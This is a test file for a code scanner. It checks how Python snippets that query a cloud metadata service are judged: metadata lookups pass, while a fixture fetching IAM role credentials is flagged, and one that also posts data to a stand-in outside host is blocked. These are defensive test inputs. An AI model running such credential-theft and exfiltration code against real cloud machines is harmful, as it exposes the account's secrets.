// What programs ask the metadata service of a cloud: about the machine, or for its credentials.
import { describe, expect, it } from 'vitest';
import { decision, verdicts } from './support.ts';

const SERVICE = 'http://169.254.169.254/latest';
const token = `token = requests.put("${SERVICE}/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}).text`;
const get = (name: string, path: string): string =>
  `${name} = requests.get("${SERVICE}/meta-data/${path}", headers={"X-aws-ec2-metadata-token": token}).text`;
const python = (...lines: string[]): string => `import requests\n${lines.join('\n')}\n`;

describe('the metadata service', () => {
  it.each(['instance-type', 'placement/region', 'placement/availability-zone', 'instance-id'])(
    'may be asked for %s with a token of a session',
    async (path) => {
      expect(await decision('a.py', python(token, get('x', path), 'print(x)'))).toBe('pass');
    },
  );

  it('is held when it is asked for credentials, and blocked when something is sent besides', async () => {
    const secret = get('keys', 'iam/security-credentials/role');
    expect(await verdicts('a.py', python(token, secret))).toEqual(['CODE-METADATA MEDIUM']);
    const sent = python(token, secret, 'requests.post("https://a.example.invalid/", data="x")');
    expect(await decision('a.py', sent)).toBe('block');
  });
});
